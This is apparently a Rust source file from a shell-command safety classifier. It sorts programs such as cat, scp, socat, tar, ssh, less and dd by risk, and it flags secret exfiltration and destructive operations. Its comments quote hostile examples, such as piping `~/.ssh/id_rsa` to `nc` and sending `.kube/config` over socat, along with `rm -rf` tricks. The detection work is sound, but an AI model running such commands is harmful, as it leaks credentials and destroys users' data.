//! Handlers for file, text and system programs whose behaviour a row cannot express: what
//! they pass on to the next command (`echo`, `cat`, `base64 -d`), scripts in their arguments
//! (`sed`, `awk`, `find -exec`, `fd -x`), operands with a meaning (`dd of=`, `uniq IN OUT`,
//! `ln -sf /dev/null f`, `date MMDDhhmm`) and read-only subcommands of admin programs.

use super::super::args::{has_long, has_short, literal_output, opt_value, write_risk};
use super::super::shell::{Input, Sh};
use super::super::tools;
use super::scripts::{awk_commands, editor, sed};
use super::system::{admin, keys_read, kill, zfs_dry_run};
use super::table::{Handler as H, Program};
use super::{Scan, apply, base, scan, write_path, write_path_to};
use crate::Effect::{Admin, Destructive, Mutating, Read};

/// Runs a row: flags first, then what the handler adds, then the row's effect.
pub(crate) fn run(
    sh: &mut Sh,
    prog: &Program,
    name: &str,
    args: &[String],
    stdin: &Input,
    cmd: &str,
) -> Input {
    let out = Input::output_of(name);
    // `fd … -x CMD ARGS`: everything after the flag is the command it runs.
    if prog.handler == H::Fd
        && let Some(i) = args
            .iter()
            .position(|a| matches!(a.as_str(), "-x" | "--exec" | "-X" | "--exec-batch"))
    {
        let before = args.get(..i).unwrap_or_default();
        let s = scan(prog, before);
        apply(sh, name, &s, cmd);
        let inner: Vec<String> = args
            .get(i + 1..)
            .unwrap_or_default()
            .iter()
            .take_while(|a| a.as_str() != ";" && a.as_str() != "\\;")
            .cloned()
            .collect();
        sh.add(Mutating, format!("{cmd} runs a command on each file found"));
        let _ = sh.argv(&inner, &Input::None, &format!("`{name} -x`"));
        return Input::Unknown("a file list".into());
    }
    let s = if prog.flags.is_some() {
        scan(prog, args)
    } else {
        Scan {
            operands: args.to_vec(),
            ..Scan::default()
        }
    };
    apply(sh, name, &s, cmd);
    super::super::args::memory_read(sh, name, args, &s.operands, cmd);
    if let Some(flag) = s
        .only_prints()
        .filter(|_| !crate::classify::content::args::dry_run_cancelled(args))
    {
        sh.add(Read, format!("{cmd} only prints or dry-runs (`{flag}`)"));
        return out;
    }
    // A secret file passed on (`cat ~/.ssh/id_rsa | nc host 9000`, `base64 .env | curl …`).
    let passes_on = matches!(prog.handler, H::Cat | H::Decode)
        || matches!(
            name,
            "head"
                | "tail"
                | "tac"
                | "base64"
                | "base32"
                | "xxd"
                | "od"
                | "zcat"
                | "strings"
                | "sort"
        );
    if passes_on
        && let Some(f) = s
            .operands
            .iter()
            .find(|o| super::super::args::secret_path(o))
    {
        let _ = special(sh, prog, name, args, &s, stdin, cmd);
        sh.add(Read, format!("{cmd} reads a secret file"));
        return super::super::args::file_input(f);
    }
    match special(sh, prog, name, args, &s, stdin, cmd) {
        Some(result) => result,
        None => {
            base(sh, prog, &s.operands, cmd);
            out
        }
    }
}

/// What a handler adds; `None` lets the row's effect apply.
fn special(
    sh: &mut Sh,
    prog: &Program,
    name: &str,
    args: &[String],
    s: &Scan,
    stdin: &Input,
    cmd: &str,
) -> Option<Input> {
    let ops = &s.operands;
    let out = || Input::output_of(name);
    // `scp ~/.ssh/id_rsa host:` copies a secret to another machine.
    if matches!(name, "scp" | "sftp" | "rsync")
        && let Some(f) = ops.iter().find(|o| super::super::args::secret_path(o))
        && ops.iter().any(|o| o != f && o.contains(':'))
    {
        sh.add(
            Admin,
            format!("{cmd} copies the secret file `{f}` to another machine"),
        );
    }
    // `yq -i 'del(.spec)' f`: an in-place edit that deletes keys or nulls them.
    if name == "yq"
        && s.has(&["-i"])
        && ops
            .iter()
            .any(|o| o.contains("del(") || o.replace(' ', "").contains("=null"))
    {
        sh.add(
            Destructive,
            format!("{cmd} deletes keys from a file in place"),
        );
    }
    // `mv`/`cp` onto an existing file replace it: the destination is judged as a write.
    if matches!(prog.handler, H::Mv | H::Copy)
        && ops.len() >= 2
        && !s.has(&["-t", "--target-directory"])
        && let Some(dest) = ops.last().filter(|d| !d.ends_with('/'))
        && let Some((e, why)) = write_risk(dest, false)
    {
        sh.add(e, format!("{cmd} replaces `{dest}`, {why}"));
    }
    // `parted DEV print`, `parted -s DEV unit s print free`: only printing commands.
    if name == "parted"
        && ops.len() >= 2
        && ops.iter().skip(1).all(|o| {
            matches!(
                o.as_str(),
                "print"
                    | "p"
                    | "unit"
                    | "s"
                    | "B"
                    | "kB"
                    | "MB"
                    | "MiB"
                    | "GB"
                    | "GiB"
                    | "TB"
                    | "TiB"
                    | "%"
                    | "cyl"
                    | "chs"
                    | "compact"
                    | "free"
                    | "all"
                    | "list"
                    | "devices"
                    | "help"
            )
        })
        && ops.iter().skip(1).any(|o| o == "print" || o == "p")
    {
        sh.add(Read, format!("{cmd} prints the partition table"));
        return Some(out());
    }
    match prog.handler {
        // The printed text is passed on, so `echo 'rm -rf x' | sh` is seen.
        H::Echo => {
            sh.add(Read, format!("{cmd} prints text"));
            let mut argv = vec![name.to_string()];
            argv.extend(args.iter().cloned());
            Some(
                literal_output(&argv).map_or(Input::Unknown("printed text".into()), Input::Literal),
            )
        }
        H::Cat if ops.is_empty() => {
            sh.add(Read, format!("{cmd} reads"));
            Some(stdin.clone())
        }
        H::Decode if s.has(&["-d", "-D", "-r"]) => {
            sh.add(Read, format!("{cmd} decodes"));
            // `xxd -r in out` writes `out`.
            if let Some(target) = ops.get(1).filter(|_| name == "xxd") {
                write_path(sh, target, cmd);
            }
            if !ops.is_empty() {
                return Some(Input::Unknown("decoded file content".into()));
            }
            let decode = if name == "xxd" {
                tools::hex_decode
            } else if name == "base32" || s.has(&["--base32"]) {
                super::super::base32::decode
            } else {
                tools::base64_decode
            };
            Some(match stdin {
                Input::Literal(t) => {
                    decode(t).map_or(Input::Unknown("decoded data".into()), Input::Literal)
                }
                other => other.clone(),
            })
        }
        // `xxd in out` dumps `in` into `out`.
        H::Decode if name == "xxd" && ops.len() >= 2 => {
            if let Some(target) = ops.get(1) {
                write_path(sh, target, cmd);
            }
            Some(Input::None)
        }
        H::Rev => {
            sh.add(Read, format!("{cmd} reads"));
            Some(match stdin {
                Input::Literal(t) if ops.is_empty() => Input::Literal(
                    t.lines()
                        .map(|l| l.chars().rev().collect::<String>())
                        .collect::<Vec<_>>()
                        .join("\n"),
                ),
                Input::Literal(_) => out(),
                other => other.clone(),
            })
        }
        H::Set => {
            let first = args.first().map(String::as_str).unwrap_or("");
            if name == "history" && has_short(args, 'c') {
                sh.add(Destructive, format!("{cmd} clears the history"));
            } else if name == "history" && args.iter().any(|a| a.starts_with('-')) {
                sh.add(Mutating, format!("{cmd} changes or writes the history"));
            } else if name == "set" && first.starts_with('+') && args.iter().any(|a| a == "history")
            {
                sh.add(Mutating, format!("{cmd} turns off history"));
            } else if name == "unset"
                && args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "HISTFILE" | "HISTSIZE" | "HISTFILESIZE" | "PROMPT_COMMAND"
                    )
                })
            {
                sh.add(Mutating, format!("{cmd} turns off the shell's history"));
            } else if let Some(v) = (name == "ulimit")
                .then(|| super::limits::ulimit_value(args))
                .flatten()
            {
                sh.add(
                    Mutating,
                    format!("{cmd} sets a resource limit to `{v}` for this shell and what it runs"),
                );
            } else {
                sh.add(Read, format!("{cmd} {}", prog.what));
            }
            Some(out())
        }
        H::Sed => {
            sed(sh, args, s, stdin, cmd);
            None
        }
        H::Awk => {
            awk_commands(sh, args);
            Some(tools::awk(sh, args, cmd, out()))
        }
        H::Find => Some(tools::find(sh, args, cmd)),
        H::Dd => {
            dd(sh, args, cmd);
            Some(out())
        }
        H::Tar => {
            tar(sh, args, cmd);
            Some(out())
        }
        H::Zip => {
            zip(sh, args, cmd);
            Some(out())
        }
        H::Editor => {
            editor(sh, name, s, stdin);
            None
        }
        // `socat EXEC:cmd` and `SYSTEM:cmd` addresses run commands.
        H::Socat => {
            for a in args {
                let upper = a.to_ascii_uppercase();
                let at = ["EXEC:", "SYSTEM:"]
                    .iter()
                    .find_map(|p| upper.starts_with(p).then_some(p.len()));
                if let Some(i) = at {
                    let c = a.get(i..).unwrap_or("").split(',').next().unwrap_or("");
                    sh.shell_text(c, "`socat EXEC:`");
                }
            }
            // `socat -u FILE:~/.kube/config TCP:host:port`: a secret file read into a socket.
            let network = args.iter().any(|a| {
                let upper = a.to_ascii_uppercase();
                ["TCP", "UDP", "SCTP", "OPENSSL", "SSL", "DCCP"]
                    .iter()
                    .any(|p| upper.starts_with(p))
            });
            let secret = args.iter().find_map(|a| {
                let (kind, rest) = a.split_once(':')?;
                let file = matches!(
                    kind.to_ascii_uppercase().as_str(),
                    "FILE" | "OPEN" | "GOPEN" | "CREATE"
                );
                let path = rest.split(',').next().unwrap_or(rest);
                file.then(|| sh.secret_file(path)).flatten()
            });
            if network && let Some(f) = secret {
                sh.add(
                    Admin,
                    format!("{cmd} sends the secret file `{f}` over the network"),
                );
            }
            None
        }
        // `expect -c 'spawn rm -rf x'`: `spawn`, `exec` and `system` run commands.
        H::Expect => {
            let script = opt_value(args, &["-c"], &[])
                .map(str::to_string)
                .or(match stdin {
                    Input::Literal(t) => Some(t.clone()),
                    _ => None,
                });
            match script {
                Some(t) => {
                    for part in t.split([';', '\n']) {
                        let part = part.trim();
                        let run = ["spawn ", "exec ", "system "]
                            .iter()
                            .find_map(|k| part.strip_prefix(k));
                        if let Some(c) = run {
                            sh.shell_text(c, "`expect spawn`");
                        }
                    }
                }
                None => sh.add(
                    Mutating,
                    format!("{cmd} runs an expect script that is not visible"),
                ),
            }
            None
        }
        H::Less => {
            // After `--` every word is a file (`less -R -- -k` shows the file `-k`).
            let options = args.iter().take_while(|a| a.as_str() != "--");
            if let Some(o) = options
                .into_iter()
                .find_map(|a| super::limits::lesskey_option(a))
            {
                sh.add(
                    Mutating,
                    format!("{cmd} loads key bindings (`{o}`), which can run commands"),
                );
            }
            // An initial command (`less '+!rm x' f`) runs like a typed one; `!` and `|` run a
            // shell.
            for o in ops.iter().filter_map(|o| o.strip_prefix('+')) {
                less_initial(sh, o, cmd);
            }
            None
        }
        H::Uniq => {
            // `uniq IN OUT` writes OUT.
            if let Some(target) = ops.get(1) {
                write_path(sh, target, cmd);
            }
            None
        }
        H::Tee => {
            let append = s.has(&["-a", "--append"]);
            // Nothing to copy (`echo '' | tee a b`, `tee f < /dev/null`) empties each file.
            let nothing = match stdin {
                Input::Literal(t) => t.trim().is_empty(),
                Input::Unknown(what) => what == "the file `/dev/null`",
                Input::None => false,
            };
            for f in ops.iter().filter(|o| o.as_str() != "/dev/null") {
                write_path_to(sh, f, append, cmd);
                if nothing && !append {
                    sh.add(
                        Destructive,
                        format!("{cmd} writes nothing over `{f}`, which empties it"),
                    );
                }
            }
            sh.add(Read, format!("{cmd} copies its input"));
            Some(match stdin {
                Input::Literal(t) => Input::Literal(t.clone()),
                other => other.clone(),
            })
        }
        H::Date => {
            if ops.iter().any(|o| !o.starts_with('+')) {
                sh.add(Admin, format!("{cmd} sets the system clock"));
            }
            None
        }
        H::Hostname => {
            const PRINTS: &[&str] = &[
                "-s",
                "--short",
                "-f",
                "--fqdn",
                "--long",
                "-i",
                "--ip-address",
                "-I",
                "--all-ip-addresses",
                "-d",
                "--domain",
                "-a",
                "--alias",
                "-A",
                "--all-fqdns",
                "-y",
                "--yp",
                "--nis",
                "-V",
                "--version",
                "-h",
                "--help",
            ];
            if args.iter().all(|a| PRINTS.contains(&a.as_str())) {
                sh.add(Read, format!("{cmd} reads"));
            } else {
                sh.add(Admin, format!("{cmd} changes the host name"));
            }
            Some(out())
        }
        H::Mv if args.last().is_some_and(|a| a == "/dev/null") => {
            sh.add(
                Destructive,
                format!("{cmd} moves files to `/dev/null` (deletes them)"),
            );
            Some(out())
        }
        H::Copy if args.iter().any(|a| a == "/dev/null") => {
            sh.add(
                Destructive,
                format!("{cmd} empties files (copies `/dev/null`)"),
            );
            Some(out())
        }
        H::Ln => {
            // `ln -sf /dev/null FILE` replaces FILE: its content is gone.
            let force = s.has(&["-f", "-b"]);
            if force && ops.first().is_some_and(|o| o.starts_with("/dev/")) {
                sh.add(
                    Destructive,
                    format!("{cmd} replaces a file by a link to a device"),
                );
            } else if force {
                sh.add(Mutating, format!("{cmd} replaces existing files"));
            }
            None
        }
        H::Kill => {
            kill(sh, args, cmd);
            Some(out())
        }
        H::Shutdown => {
            if has_short(args, 'c') || has_long(args, "--help") || has_short(args, 'k') {
                sh.add(
                    Mutating,
                    format!("{cmd} changes or announces a scheduled shutdown"),
                );
            } else {
                sh.add(Destructive, format!("{cmd} stops the machine"));
            }
            Some(out())
        }
        H::Truncate
            if args
                .iter()
                .any(|a| a.starts_with("-s+") || a.starts_with("--size=+")) =>
        {
            sh.add(Mutating, format!("{cmd} grows a file"));
            Some(out())
        }
        H::Gio if args.first().is_some_and(|a| a == "trash" || a == "remove") => {
            sh.add(Destructive, format!("{cmd} deletes files"));
            Some(out())
        }
        H::Zfs
            if args.first().is_some_and(|a| {
                matches!(a.as_str(), "list" | "get" | "status" | "iostat" | "history")
            }) =>
        {
            sh.add(Read, format!("{cmd} reads"));
            Some(out())
        }
        // `zfs destroy -n`, `zpool create|add|remove|split -n`: a no-op run that prints what
        // would happen. Only the short flag `-n`, alone or in a cluster, before the operands.
        H::Zfs if zfs_dry_run(name, args) => {
            sh.add(Read, format!("{cmd} dry-runs (`-n`)"));
            Some(out())
        }
        H::Chmod | H::Firewall | H::Sysctl | H::NetAdmin => {
            admin(sh, name, args, cmd);
            Some(out())
        }
        H::Keys => {
            // `openssl enc -in F -out F`: the output truncates the input before it is read.
            let value = |f: &str| {
                args.iter()
                    .position(|a| a == f)
                    .and_then(|i| args.get(i + 1))
                    .map(String::as_str)
                    .or_else(|| args.iter().find_map(|a| a.strip_prefix(&format!("{f}="))))
            };
            if let Some(o) = value("-out") {
                if value("-in").is_some_and(|i| i == o) {
                    sh.add(
                        Destructive,
                        format!("{cmd} writes over its own input `{o}`"),
                    );
                }
                write_path(sh, o, cmd);
            }
            if name == "openssl" {
                super::openssl::network(sh, args, stdin, cmd);
            }
            let e = if keys_read(name, args) {
                Read
            } else {
                Mutating
            };
            sh.add(e, format!("{cmd} reads or writes keys"));
            Some(out())
        }
        H::Formatter => {
            let checks = args.iter().any(|a| {
                matches!(
                    a.as_str(),
                    "--check" | "-l" | "--diff" | "check" | "--list-different"
                )
            });
            let writes = args
                .iter()
                .any(|a| matches!(a.as_str(), "--write" | "-w" | "-i" | "--fix" | "format"));
            if checks && !writes {
                sh.add(Read, format!("{cmd} checks formatting"));
            } else {
                sh.add(Mutating, format!("{cmd} rewrites source files"));
            }
            Some(out())
        }
        H::Ssh => {
            ssh_options(sh, args, cmd);
            super::super::wrappers::wrapper(sh, name, args, stdin, cmd)
        }
        _ => None,
    }
}

/// `dd`: operands are `key=value`; `of=` writes (a device or a file: destructive), reading
/// into a pipe only reads.
fn dd(sh: &mut Sh, args: &[String], cmd: &str) {
    if args.iter().any(|a| a == "--help" || a == "--version") {
        sh.add(Read, format!("{cmd} only prints"));
        return;
    }
    let mut writes = None;
    for a in args {
        let Some((k, v)) = a.split_once('=') else {
            sh.add(
                Mutating,
                format!("{cmd}: `{a}` is not a dd operand this catalogue knows"),
            );
            continue;
        };
        match k {
            "of" => writes = Some(v),
            "if" | "bs" | "ibs" | "obs" | "cbs" | "count" | "skip" | "iseek" | "status"
            | "iflag" | "conv" => {}
            "seek" | "oseek" | "oflag" => {}
            _ => sh.add(
                Mutating,
                format!("{cmd}: dd operand `{k}` is not in the catalogue"),
            ),
        }
    }
    match writes {
        Some(path) if super::super::args::harmless_sink(path) => {
            sh.add(Read, format!("{cmd} reads data"))
        }
        Some(path) => {
            if let Some((e, why)) = write_risk(path, false) {
                sh.add(e, format!("{cmd} overwrites `{path}`, {why}"));
            }
            sh.written.push((path.to_string(), None));
            sh.add(Destructive, format!("{cmd} overwrites a file or device"));
        }
        None => sh.add(Read, format!("{cmd} copies data to its output")),
    }
}

/// `tar`: the mode (old-style bundles like `tar xzf`), flags that delete the files it reads or
/// run programs.
fn tar(sh: &mut Sh, args: &[String], cmd: &str) {
    let bundle = args
        .first()
        .filter(|a| !a.starts_with('-'))
        .map_or("", String::as_str);
    let short = |c: char| bundle.contains(c) || has_short(args, c);
    for f in [
        "--to-command",
        "--use-compress-program",
        "--rsh-command",
        "--info-script",
        "--new-volume-script",
    ] {
        if let Some(v) = opt_value(args, &[], &[f]) {
            sh.add(Mutating, format!("{cmd}: `{f}` runs a program"));
            sh.shell_text(v, &format!("`tar {f}`"));
            // `--to-command=sh`: every member's content is a script the shell reads.
            if f == "--to-command" && super::forms::runs_a_shell(v) && !v.contains(" -c") {
                sh.add(
                    Destructive,
                    format!("{cmd} feeds the archive's files to `{v}`, which runs them"),
                );
            }
        }
    }
    if let Some(v) = opt_value(args, &["-I", "-F"], &[]) {
        sh.add(Mutating, format!("{cmd} runs a program"));
        sh.shell_text(v, "`tar -I`");
    }
    for a in args
        .iter()
        .filter_map(|a| a.strip_prefix("--checkpoint-action="))
    {
        if let Some(c) = a.strip_prefix("exec=") {
            sh.add(
                Mutating,
                format!("{cmd}: `--checkpoint-action=exec` runs a command"),
            );
            sh.shell_text(c, "`tar --checkpoint-action`");
        }
    }
    if args.iter().any(|a| {
        matches!(
            a.as_str(),
            "--remove-files" | "--delete" | "--recursive-unlink" | "--unlink-first"
        )
    }) || (short('U') && short('x'))
    {
        sh.add(
            Destructive,
            format!("{cmd} deletes files (`--remove-files`, `--delete`, `--unlink-first`)"),
        );
    }
    let lists = short('t') || has_long(args, "--list");
    let creates = short('c') || short('x') || short('r') || short('u') || short('A');
    if lists && !creates {
        sh.add(Read, format!("{cmd} lists an archive"));
    } else {
        // Extracting overwrites files under the directory: judged as a write to it.
        let extracts = short('x') || has_long(args, "--extract") || has_long(args, "--get");
        if let Some(dir) = opt_value(args, &["-C"], &["--directory"]) {
            // Creating only reads from the directory (deleting what it read is judged above).
            let risk = if extracts {
                write_risk(&format!("{}/", dir.trim_end_matches('/')), false)
            } else {
                None
            };
            if let Some((e, why)) = risk {
                sh.add(e, format!("{cmd} extracts into {why}"));
            }
        }
        sh.add(Mutating, format!("{cmd} creates or extracts an archive"));
    }
}

/// `zip`: `-TT cmd` runs a command to test the archive, `-m` deletes the originals.
fn zip(sh: &mut Sh, args: &[String], cmd: &str) {
    if let Some(v) = opt_value(args, &["-TT"], &["--unzip-command"]) {
        sh.add(Mutating, format!("{cmd}: `-TT` runs a command"));
        sh.shell_text(v, "`zip -TT`");
    }
    if args
        .iter()
        .any(|a| a == "--move" || a == "-d" || a == "--delete")
        || has_short(args, 'm')
    {
        sh.add(Destructive, format!("{cmd} deletes files (`-m`/`-d`)"));
    }
    sh.add(Mutating, format!("{cmd} creates an archive"));
}

/// ssh options written as one text (`ansible --ssh-common-args='-o ProxyCommand="…"'`,
/// `ANSIBLE_SSH_ARGS`): split as a shell splits words (ansible uses `shlex`, so `\"` inside
/// double quotes is a quote; xargs' `split_quoted` does not do that), then judged as `ssh`'s
/// own.
pub(crate) fn ssh_option_text(sh: &mut Sh, text: &str, cmd: &str) {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (Some('"') | None, '\\') => word.extend(chars.next()),
            (None, c) if c.is_whitespace() => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            (_, c) => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    ssh_options(sh, &words, cmd);
}

/// `ssh -o ProxyCommand=CMD` and `LocalCommand` run local commands; `PKCS11Provider` and
/// `-I` load a library; `-E` and `UserKnownHostsFile` write files. Options may sit at the end
/// of a cluster (`-vo ProxyCommand=…`).
fn ssh_options(sh: &mut Sh, args: &[String], cmd: &str) {
    // ssh's flags that take a value; the others take none.
    const VALUED: &str = "BbcDEeFIiJLlmOopQRSWw";
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let Some(cluster) = a.strip_prefix('-').filter(|c| !c.starts_with('-')) else {
            continue;
        };
        let Some((at, letter)) = cluster.char_indices().find(|(_, c)| VALUED.contains(*c)) else {
            continue;
        };
        let rest = cluster.get(at + letter.len_utf8()..).unwrap_or("");
        let value = if rest.is_empty() {
            it.next().map(String::as_str).unwrap_or("")
        } else {
            rest
        };
        match letter {
            'o' => ssh_option(sh, value, cmd),
            'E' => write_path(sh, value, &format!("{cmd}: `ssh -E`")),
            'I' => sh.add(
                Mutating,
                format!("{cmd}: `ssh -I` loads the library `{value}`"),
            ),
            _ => {}
        }
    }
}

/// One `-o KEY=VALUE` (or `KEY VALUE`) of ssh.
fn ssh_option(sh: &mut Sh, opt: &str, cmd: &str) {
    let opt = opt.trim();
    let (k, v) = opt
        .split_once('=')
        .or_else(|| opt.split_once(char::is_whitespace))
        .unwrap_or((opt, ""));
    let k = k.trim().to_ascii_lowercase();
    let v = v.trim();
    match k.as_str() {
        "proxycommand" | "localcommand" | "knownhostscommand" => {
            sh.add(
                Mutating,
                format!("{cmd}: ssh option `{k}` runs a local command"),
            );
            sh.shell_text(v, &format!("`ssh -o {k}`"));
        }
        "pkcs11provider" | "securitykeyprovider" => sh.add(
            Mutating,
            format!("{cmd}: ssh option `{k}` loads the library `{v}`"),
        ),
        "userknownhostsfile" | "globalknownhostsfile" => {
            for f in v.split_whitespace().filter(|f| *f != "/dev/null") {
                write_path(sh, f, &format!("{cmd}: ssh option `{k}`"));
            }
        }
        _ => {}
    }
}

/// A `less` initial command (`less +CMD`, `LESS=+CMD`): `!` and `|` run a shell, `s FILE`
/// saves the piped input over the file (`ls | less +s/srv/x.db`), and any other command than
/// moving or searching is not proven to only show.
pub(crate) fn less_initial(sh: &mut Sh, o: &str, cmd: &str) {
    // `$` ends an option's text, and another option follows it (`+/x$+!rm -rf ~`,
    // `+G$-o ~/.bashrc`): each part is judged.
    if let Some((first, rest)) = o.split_once('$') {
        less_initial(sh, first, cmd);
        for part in rest.split('$').filter(|p| !p.is_empty()) {
            match part.strip_prefix('+') {
                Some(c) => less_initial(sh, c, cmd),
                None => sh.add(
                    Mutating,
                    format!("{cmd} gives `less` the option `{part}` after `$` (not proven)"),
                ),
            }
        }
        return;
    }
    // A search's pattern may hold `|` (`+/error|warn`): the rest of the line is the pattern.
    if o.starts_with(['/', '?']) && !o.contains(|ch: char| ch.is_control()) {
        return;
    }
    // `+-o FILE`: the option command sets the log file, which less then writes.
    if let Some(file) = o.strip_prefix("-o").or_else(|| o.strip_prefix("-O")) {
        write_path(sh, file.trim(), cmd);
        return;
    }
    if let Some(c) = o.split_once(['!', '|']).map(|(_, c)| c) {
        sh.add(Mutating, format!("{cmd} runs a shell command from `less`"));
        sh.shell_text(c, &format!("{cmd}: `less +!`"));
    } else if let Some(file) = o.strip_prefix('s') {
        write_path(sh, file.trim(), cmd);
    } else if !less_view_command(o) {
        sh.add(
            Mutating,
            format!("{cmd} starts `less` with a command not proven to only show (`+{o}`)"),
        );
    }
}

/// A `less` initial command that only moves or searches: `+G`, `+F`, `+42g`, `+/pattern` on
/// one line. Any other (`+s` saves, `+v` edits, `+-o` logs, `+E` opens another file) is not
/// proven to only show.
fn less_view_command(c: &str) -> bool {
    let digits = c.trim_start_matches(|ch: char| ch.is_ascii_digit());
    matches!(digits, "" | "g" | "G" | "F" | "p" | "%" | "j" | "k")
        || (c.starts_with(['/', '?']) && !c.contains(|ch: char| ch.is_control()))
}
